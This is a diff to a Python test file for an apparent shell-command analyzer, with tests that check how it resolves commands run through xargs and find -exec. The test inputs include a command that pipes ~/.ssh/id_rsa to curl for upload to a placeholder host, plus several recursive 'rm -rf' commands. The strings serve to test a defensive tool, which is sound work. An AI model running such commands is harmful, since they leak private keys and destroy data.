@@ -56,8 +56,14 @@ def test_lookups_are_not_runs(argvs: Argvs) -> None:
 
 
 def test_xargs_and_find_exec_append_arguments() -> None:
-    xargs = analyze("ls | xargs rm -rf").invocations[-1]
+    xargs = analyze("cat list | xargs rm -rf").invocations[-1]
     assert (xargs.name, xargs.appended_args, xargs.via) == ("rm", True, ("xargs",))
+    # Names the analysis can read are put in the command (`-I`'s string, or appended).
+    fed = analyze("echo ~/.ssh/id_rsa | xargs -I{} curl -T {} x").invocations[-1]
+    assert [w.value for w in fed.argv] == ["curl", "-T", "~/.ssh/id_rsa", "x"]
+    assert fed.via == ("xargs input", "xargs")
+    listed = analyze("ls -d ~/* | xargs rm -rf").invocations[-1]
+    assert [w.value for w in listed.argv] == ["rm", "-rf", "~/*"]
     found = analyze("find /srv -exec rm -rf {} \\;").invocations[-1]
     assert [w.value for w in found.argv] == ["rm", "-rf", "/srv"]
     named = analyze("find /srv -name x -exec rm -rf {} \\;").invocations[-1]
